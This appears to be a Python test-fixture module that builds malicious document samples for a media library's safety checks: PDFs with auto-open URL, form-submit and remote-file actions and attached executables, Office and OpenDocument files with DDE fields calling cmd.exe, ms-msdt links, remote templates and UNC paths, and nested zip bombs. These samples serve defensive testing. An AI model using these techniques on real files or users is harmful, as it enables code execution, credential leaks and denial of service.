"""Documents that fetch or start something when they are opened, or unpack without end: `{what it does: content}`."""

import io
import struct
import zipfile

from tests.media_library import samples
from tests.media_library.dangerous_documents import pdf
from tests.media_library.office_texts import field, ns, ods, simple_field, word

UNC = "file://may-chu.example/chung/a.png"


def relation(folder, kind, target):
    return samples.office(folder, **{f"{folder}/_rels/document.xml.rels": samples.relation(kind, target)})


def sheet_part(name, xml):
    return samples.office("xl", **{name: xml})


def old_word(code, *, encoding="cp1252"):
    text = f"Kinh gui \x13 {code} \x14x\x15".encode(encoding)
    return samples.compound(WordDocument=bytes(512) + text)


def old_sheet_dde():
    name = b"cmd\x03/c calc"
    record = struct.pack("<HHB", 0, len(name), 0) + name
    return samples.compound(Workbook=struct.pack("<HH", 0x01AE, len(record)) + record + struct.pack("<HH", 0x0A, 0))


def attached(name, content=b"MZ"):
    """A PDF that carries a file."""
    stream = b"<</Length %d>>stream\n" % len(content) + content + b"\nendstream"
    names = f"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F({name})/EF<</F 9 0 R>>>>]>>>>"
    return pdf(names).replace(b"trailer", b"9 0 obj" + stream + b" endobj\ntrailer")


def packed(folder, parts):
    """An office file with compressed parts, `{name: content}`."""
    file = io.BytesIO(samples.office(folder))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def high_ratio():
    """A container of less than a megabyte that unpacks to 200."""
    return packed("word", {"word/media/a.emf": bytes(200 * 2**20)})


def nested(depth):
    """Containers of eight in containers of eight, which unpack to half a gigabyte."""
    inner = packed("xl", {"xl/media/a.emf": bytes(2**20)})
    for _ in range(depth):
        inner = packed("word", {f"word/embeddings/{number}.docx": inner for number in range(8)})
    return inner


PDFS = {
    "address opened with the PDF": pdf("/OpenAction<</S/URI/URI(https://x.example)>>"),
    "address opened after a jump": pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://x.example)>>>>"),
    "address opened with a page": pdf("/AA<</O<</S/URI/URI(https://x.example)>>>>"),
    "form sent when opened": pdf("/OpenAction<</S/SubmitForm/F(https://x.example)>>"),
    "form sent by a click": pdf("/A<</S/SubmitForm/F(https://x.example)>>"),
    "file of another machine": pdf("/OpenAction<</S/GoToR/F(//may-chu/a.pdf)/D[0/Fit]>>"),
    "file of another machine by a click": pdf("/A<</S/GoToR/F(//may-chu/a.pdf)/D[0/Fit]>>"),
    "action nobody knows": pdf("/A<</S/RunMe>>"),
    "program attached": attached("thiep.exe"),
    "program attached under another name": attached("thiep.pdf"),
}
OFFICE = {
    "program asked (DDE)": word(field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
    "program asked, cut into runs": word(field("DD", "EAUTO c:\\\\cmd.exe")),
    "program asked by a simple field": word(simple_field("DDE excel a")),
    "program asked in small letters": word(field("ddeauto a")),
    "name of the field from a field": word(field("", inner=field("QUOTE 68 68 69"))),
    "text of another machine": word(field('INCLUDETEXT "\\\\\\\\may-chu\\\\a.doc"')),
    "picture of a field": word(field('INCLUDEPICTURE "https://x.example/a.png"')),
    "link that is a program": word(field('HYPERLINK "ms-msdt:/id PCWDiagnostic"')),
    "link that is a program, by relation": relation("word", "hyperlink", "ms-search:query=x"),
    "picture of another machine": relation("word", "image", UNC),
    "picture of a UNC path": relation("word", "image", "\\\\may-chu\\a.png"),
    "picture of the web": relation("ppt", "image", "https://x.example/a.png"),
    "template of another machine": relation("word", "attachedTemplate", "file://may-chu/mau.dotx"),
    "another text read in": samples.office(
        "word", **{"word/_rels/a.rels": samples.relation("aFChunk", "a.rtf", "Internal")}
    ),
    "script in it": samples.office("word", **{"word/chay.vbs": "x"}),
    "page in it": samples.office("ppt", **{"ppt/media/trang.hta": "x"}),
    "data fetched when opened": sheet_part(
        "xl/connections.xml", "<connections><connection refreshOnLoad='1'/></connections>"
    ),
    "data fetched each minute": sheet_part(
        "xl/connections.xml", "<connections><connection interval='1'/></connections>"
    ),
    "query run when opened": sheet_part("xl/queryTables/queryTable1.xml", "<queryTable refreshOnLoad='true'/>"),
    "program by a click on a slide": samples.office(
        "ppt", **{"ppt/slides/slide1.xml": "<a:hlinkClick xmlns:a='a' action='ppaction://program?x'/>"}
    ),
    "old text asks a program": old_word("DDEAUTO c:\\\\cmd.exe"),
    "old text asks a program, in two bytes": old_word(" DDE excel", encoding="utf-16-le"),
    "old text reads another": old_word('INCLUDETEXT "a.doc"'),
    "old table asks a program": old_sheet_dde(),
    "open table asks a program": ods(f"<office:dde-source {ns('office')} office:dde-application='cmd'/>"),
    "open text asks a program": ods(f"<text:dde-connection-decl {ns('office', 'text')}/>"),
    "section of the web": ods(f"<text:section-source {ns('text', 'xlink')} xlink:href='https://x.example/a.odt'/>"),
    "section of a file": ods(f"<text:section-source {ns('text', 'xlink')} xlink:href='../a.odt'/>"),
    "open picture of the web": ods(f"<draw:image {ns('draw', 'xlink')} xlink:href='https://x.example/a.png'/>"),
    "open picture of another machine": ods(f"<draw:image {ns('draw', 'xlink')} xlink:href='//may-chu/a.png'/>"),
    "open link that is a program": ods(f"<text:a {ns('text', 'xlink')} xlink:href='ms-msdt:/id'/>"),
}
BOMBS = {"little that unpacks to much": high_ratio, "containers in containers": lambda: nested(3)}
